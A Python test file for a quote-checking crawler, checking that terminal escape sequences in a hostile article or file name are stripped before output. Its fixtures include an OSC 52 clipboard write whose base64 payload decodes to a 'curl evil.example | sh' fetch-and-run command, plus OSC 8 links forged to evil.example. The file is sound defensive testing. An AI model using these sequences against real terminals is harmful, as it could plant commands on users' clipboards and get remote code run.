"""Terminal escapes in a hostile article never reach the terminal raw.

OSC 52 writes the clipboard, OSC 8 forges a link, CSI moves the cursor and recolours,
and the 8-bit C1 forms do the same on some terminals. Every command that prints text
from outside (quotes, run, report's table, check) must strip or escape them.
"""

from __future__ import annotations

from pathlib import Path

from crawler.safetext import for_terminal, json_line
from tests.support.cli_run import sourcecheck

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\"
CSI = "\x1b[2J\x1b[31m"
C1 = "\x9b31m\x9d8;;https://evil.example/\x9c"
HOSTILE = OSC52 + OSC8 + CSI + C1
RAW = ("\x1b", "\x9b", "\x9d", "\x9c", "\x07")

ARTICLE = (
    "<!doctype html><html><head><title>Council " + HOSTILE + "news</title></head><body>"
    "<article><h1>Council news</h1>"
    "<p>The mayor told reporters: “We will rebuild the old sea wall"
    + HOSTILE
    + " before the winter storms arrive,” and left.</p>"
    "<p>The opposition leader said “this plan" + OSC8 + " has no money behind it at all”.</p>"
    "</article></body></html>"
)


def _clean(text: str) -> None:
    for ch in RAW:
        assert ch not in text, repr(text)


def test_for_terminal_strips_sequences_and_escapes_the_rest() -> None:
    shown = for_terminal("a" + HOSTILE + "b\x00c\x85d\udc80e\tf\ng")
    _clean(shown)
    assert shown.startswith("a") and "\\x00" in shown and "\\x85" in shown
    assert "\\udc80" in shown and "\tf\ng" in shown
    assert "evil.example" not in shown  # the OSC strings are removed whole
    assert for_terminal("plain “text” é") == "plain “text” é"


def test_json_line_leaves_no_raw_control() -> None:
    line = json_line({"q": HOSTILE + "\udc80\x7f"})
    _clean(line)
    assert "\\u009b" in line and "\\udc80" in line


def test_quotes_run_and_report_print_no_raw_escape(tmp_path: Path) -> None:
    article = tmp_path / "article.html"
    article.write_text(ARTICLE, "utf-8")
    db = str(tmp_path / "t.db")
    for args in (
        ("quotes", str(article)),
        ("quotes", str(article), "--json"),
        ("run", str(article), "--db", db),
        ("report", "--db", db),
    ):
        run = sourcecheck(*args, timeout=60)
        assert run.returncode in (0, 1, 3), (args, run.stderr)
        assert "rebuild" in run.stdout, (args, run.stdout)
        _clean(run.stdout)
        _clean(run.stderr)


def test_check_text_output_escapes_the_source_text(tmp_path: Path) -> None:
    page = tmp_path / "page.txt"
    body = "The council voted to rebuild the old sea wall" + HOSTILE + " before the storms. "
    page.write_text(body * 8, "utf-8")
    run = sourcecheck(
        "check", "voted to rebuild the old sea wall before the storms", "--source", str(page)
    )
    assert run.returncode in (0, 1), run.stderr
    assert "sea wall" in run.stdout
    _clean(run.stdout)
    bad = sourcecheck("check", "a quote", "--source", str(tmp_path / ("x" + OSC52 + ".html")))
    assert bad.returncode == 2
    _clean(bad.stderr)
